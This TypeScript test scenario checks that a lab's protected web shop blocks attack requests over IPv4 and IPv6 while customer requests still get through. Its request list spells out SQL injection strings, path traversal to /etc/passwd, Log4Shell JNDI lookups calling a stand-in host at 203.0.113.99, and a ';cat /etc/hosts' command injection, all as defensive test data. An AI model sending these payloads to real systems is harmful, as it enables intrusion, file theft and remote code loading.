import { join } from 'node:path';
import { z } from 'zod';
import { officeAddress } from '../lab/address-plan.ts';
import { deviceOf } from '../lab/cast.ts';
import { NOTICE_PARTS } from '../lab/catalogue/notices.ts';
import { forwardPorts } from '../lab/forward-ports.ts';
import type { Lab } from '../lab/start-lab.ts';
import { caseResult, judgeStory } from './judge-story.ts';
import { readReceipts, runAction } from './run-action.ts';
import type { Scenario } from './scenario.ts';
import { withServer } from './start-server.ts';

export const SHOP_PORT = 8081;
export const askedSchema = z.object({
  name: z.string(),
  sourcePort: z.number(),
  connected: z.boolean(),
  answered: z.boolean(),
});
export const webReceiptSchema = z.object({ name: z.string(), from: z.string(), port: z.number() });
/** Name, head, body; a name that begins with `clean` is a customer's. */
export type WebRequest = readonly [string, readonly string[], string];

const get = (name: string, path: string, ...more: string[]): WebRequest => [
  name,
  [`GET ${path} HTTP/1.1`, ...more],
  '',
];
const form = (name: string, path: string, body: string): WebRequest => [
  name,
  [`POST ${path} HTTP/1.1`, 'Content-Type: application/x-www-form-urlencoded'],
  body,
];

/** As attackers and as customers send them; none is the one that a rule was written from. */
const REQUESTS: readonly WebRequest[] = [
  get('sql-union', '/item.php?id=7%20UNION%20ALL%20SELECT%20name,pass%20FROM%20members--'),
  get('sql-true', "/item.php?id=7'%20or%20'a'%3D'a"),
  form('sql-form', '/login.php', 'user=tanaka%27+OR+1%3D1+--+&pass=x'),
  get('upwards', '/download?file=../../../../etc/passwd'),
  get('upwards-in-code', '/static/%2e%2e/%2e%2e/%2e%2e/conf/app.conf'),
  get('look-up', '/', 'User-Agent: $\x7bjndi:ldap://203.0.113.99:1389/Basic}'),
  get('look-up-hidden', '/?q=$%7B$%7Blower:j%7Dndi:rmi://203.0.113.99/x%7D'),
  get('scanner', '/', 'User-Agent: sqlmap/1.8.2#stable (https://sqlmap.org)'),
  get('command', '/ping.cgi?host=127.0.0.1;cat%20/etc/hosts'),
  get('clean-search', '/search?q=union+of+select+teas'),
  get('clean-name', "/search?q=O'Reilly+and+sons"),
  get('clean-page', '/news/../about', 'User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/130.0'),
  form('clean-order', '/order.php', 'item=12&count=1&note=3%25+off'),
];

/** Case G: the company's own web shop is attacked from outside, over IPv4 and IPv6; its customers are served meanwhile. */
export const caseG: Scenario = async (lab) => {
  const started = performance.now();
  const begun = Date.now();
  const receipts = join(lab.folder.path, 'shop.ndjson');
  const before = (await readReceipts(receipts, webReceiptSchema)).length;
  await forwardPorts(lab, 'tcp', [SHOP_PORT], officeAddress(lab.plan, deviceOf('srv').host).v4);
  const asked = await withServer(lab, 'srv', 'web-page', [String(SHOP_PORT), receipts, 'shop'], () =>
    askFromOutside(lab, SHOP_PORT, REQUESTS, 50),
  );
  const heard = (await readReceipts(receipts, webReceiptSchema)).slice(before);
  const { failures, arrived, attacks } = judgeRequests(asked, heard);
  const story = await judgeStory(
    lab,
    {
      story: 'exploit',
      direction: 'inbound',
      device: deviceOf('srv').label,
      outcome: 'stopped',
      says: NOTICE_PARTS.G,
    },
    begun,
    attacks - 2,
  );
  return caseResult('G', { sent: attacks, arrived, stories: [story], failures, started });
};

/** The same requests from the neighbour's address over both families. */
export async function askFromOutside(lab: Lab, port: number, requests: readonly WebRequest[], everyMs: number) {
  const { neighbour, router } = lab.plan;
  const inside = officeAddress(lab.plan, deviceOf('srv').host);
  const ways = [
    [router.v4, neighbour.v4, 'v4'],
    [inside.v6, neighbour.v6, 'v6'],
  ] as const;
  const asked = ways.map(([to, from, family]) => {
    const named = requests.map(([name, ...rest]) => [`${name}-${family}`, ...rest]);
    return runAction(
      lab,
      'net',
      'ask-web',
      [to, from, String(port), String(everyMs), JSON.stringify(named)],
      askedSchema,
    );
  });
  return (await Promise.all(asked)).flat();
}

export function judgeRequests(
  asked: readonly z.infer<typeof askedSchema>[],
  heard: readonly z.infer<typeof webReceiptSchema>[],
): { failures: string[]; arrived: number; attacks: number } {
  const attacks = asked.filter(({ name }) => !name.startsWith('clean'));
  const came = new Set(heard.map(({ name }) => name));
  const arrived = attacks.filter(({ name }) => came.has(name));
  const lost = asked.filter(({ name }) => name.startsWith('clean') && !came.has(name));
  const failures = [
    ...arrived.map(({ name }) => `${name} reached the page`),
    ...lost.map(({ name }) => `${name} is a customer's and was stopped`),
  ];
  if (!attacks.every(({ connected }) => connected)) failures.push('not every attacker got as far as the page');
  return { failures, arrived: arrived.length, attacks: attacks.length };
}
